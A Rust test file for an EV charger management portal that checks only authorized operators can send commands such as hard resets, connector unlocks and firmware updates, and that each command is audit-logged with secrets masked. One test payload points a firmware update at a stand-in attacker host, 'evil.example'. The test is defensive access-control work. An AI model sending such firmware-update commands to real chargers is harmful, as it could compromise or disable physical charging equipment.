//! Who may command chargers, and that everything they did is written down (T24).

use axum::http::{Method, StatusCode};
use serde_json::json;
use store::{
    api_keys::KeyScope,
    audit::{self, Actor},
    people::{self, Role, SiteRole},
};

use crate::{
    data,
    harness::{BOTH, Portal},
};

/// What does the most harm.
const HARMFUL: [(&str, &str); 4] = [
    ("Reset", r#"{"type":"Hard"}"#),
    ("UnlockConnector", r#"{"connectorId":1}"#),
    (
        "UpdateFirmware",
        r#"{"location":"https://evil.example/f","retrieveDate":"2026-11-20T12:00:00Z"}"#,
    ),
    (
        "ChangeAvailability",
        r#"{"connectorId":1,"type":"Inoperative"}"#,
    ),
];

#[tokio::test]
async fn who_may_only_look_or_is_of_another_site_commands_nothing() {
    let portal = Portal::start().await;
    let (north, south) = (portal.site("North").await, portal.site("South").await);
    data::charged(&portal, Some(south), "CP-S", 1).await;
    let all = portal.key(BOTH, &[]).await;
    let soft = json!({"action": "Reset", "payload": {"type": "Soft"}});
    let waiting = all
        .json(Method::POST, "/api/v1/stations/CP-S/commands", &soft)
        .await
        .json();
    let waiting = format!("/api/v1/commands/{}", waiting["id"].as_str().unwrap());

    let watcher = portal
        .signed_in("watcher@example.org", Role::Operator, &[north])
        .await;
    let (mut db, now) = (portal.db.pool.acquire().await.unwrap(), portal.clock.now());
    let user = people::find(&mut db, "watcher@example.org")
        .await
        .unwrap()
        .unwrap();
    people::join(&mut db, user.id, south, SiteRole::Viewer, now)
        .await
        .unwrap();
    for (who, name, expected) in [
        (watcher, "a viewer of the site", StatusCode::FORBIDDEN),
        (
            portal.key(&[KeyScope::Read], &[south]).await,
            "a key that reads",
            StatusCode::FORBIDDEN,
        ),
        (
            portal.key(BOTH, &[north]).await,
            "a key of another site",
            StatusCode::NOT_FOUND,
        ),
        (
            portal
                .signed_in("d@example.org", Role::Driver, &[south])
                .await,
            "a driver",
            StatusCode::FORBIDDEN,
        ),
        (portal.nobody(), "nobody", StatusCode::UNAUTHORIZED),
    ] {
        for (action, payload) in HARMFUL {
            let payload: serde_json::Value = serde_json::from_str(payload).unwrap();
            let asked = json!({"action": action, "payload": payload});
            for raw in ["", "?raw=1"] {
                let path = format!("/api/v1/stations/CP-S/commands{raw}");
                let answer = who.json(Method::POST, &path, &asked).await;
                assert_eq!(
                    answer.status, expected,
                    "{action} by {name}: {}",
                    answer.body
                );
            }
            let task = json!({"action": action, "payload": payload, "stations": ["CP-S"]});
            let answer = who.json(Method::POST, "/api/v1/tasks", &task).await;
            assert_eq!(answer.status, expected, "a task by {name}: {}", answer.body);
        }
        for word in ["cancel", "rerun"] {
            let answer = who
                .json(Method::POST, &format!("{waiting}/{word}"), &json!({}))
                .await;
            assert_eq!(answer.status, expected, "{word} by {name}: {}", answer.body);
        }
    }
    let commands = all.get("/api/v1/commands").await.json();
    assert_eq!(commands["items"].as_array().unwrap().len(), 1, "{commands}");
    assert_eq!(commands["items"][0]["status"], "queued");
}

#[tokio::test]
async fn every_order_is_in_the_audit_log_with_who_and_what_was_before() {
    let portal = Portal::start().await;
    let site = portal.site("Town").await;
    let charged = data::charged(&portal, Some(site), "CP-1", 1).await;
    let who = portal
        .signed_in("op@example.org", Role::Operator, &[site])
        .await;
    let path = "/api/v1/stations/CP-1/commands";
    for (action, payload) in HARMFUL {
        let payload: serde_json::Value = serde_json::from_str(payload).unwrap();
        let asked = json!({"action": action, "payload": payload});
        let queued = who.json(Method::POST, path, &asked).await;
        assert_eq!(queued.status, StatusCode::ACCEPTED, "{}", queued.body);
        assert_eq!(
            queued.json()["actor"],
            json!({"kind": "user", "name": "op@example.org"})
        );
    }
    let secret = json!({"action": "ChangeConfiguration", "payload": {"key": "AuthorizationKey", "value": "00bb"}});
    let secret = who.json(Method::POST, path, &secret).await.json();
    let waiting = format!("/api/v1/commands/{}", secret["id"].as_str().unwrap());
    who.json(Method::POST, &format!("{waiting}/cancel"), &json!({}))
        .await;
    let task = json!({"action": "ClearCache", "payload": {}, "stations": ["CP-1"]});
    let task = who.json(Method::POST, "/api/v1/tasks", &task).await.json();

    let mut db = portal.db.pool.acquire().await.unwrap();
    let user = people::find(&mut db, "op@example.org")
        .await
        .unwrap()
        .unwrap();
    let entries = audit::of(&mut db, &format!("station/{}", charged.station_id), 20)
        .await
        .unwrap();
    assert_eq!(entries.len(), 7, "{entries:#?}");
    assert!(
        entries
            .iter()
            .all(|entry| entry.actor == Actor::User(user.id))
    );
    let of = |action: &str| {
        entries
            .iter()
            .find(|entry| entry.action == "command.queue" && entry.detail["action"] == action)
            .unwrap_or_else(|| panic!("no {action}"))
    };
    for (action, payload) in HARMFUL {
        let payload: serde_json::Value = serde_json::from_str(payload).unwrap();
        assert_eq!(of(action).detail["payload"], payload);
    }
    assert_eq!(
        of("ChangeAvailability").detail["before"],
        json!([{"connector": 1, "status": "Available"}])
    );
    assert_eq!(of("ChangeConfiguration").detail["payload"]["value"], "***");
    assert_eq!(of("ClearCache").detail["task"], task["id"]);
    assert!(
        entries.iter().any(
            |entry| entry.action == "command.cancel" && entry.detail["command"] == secret["id"]
        )
    );
    let entity = format!("task/{}", task["id"].as_str().unwrap());
    assert_eq!(
        audit::of(&mut db, &entity, 5).await.unwrap()[0].action,
        "task.queue"
    );
}
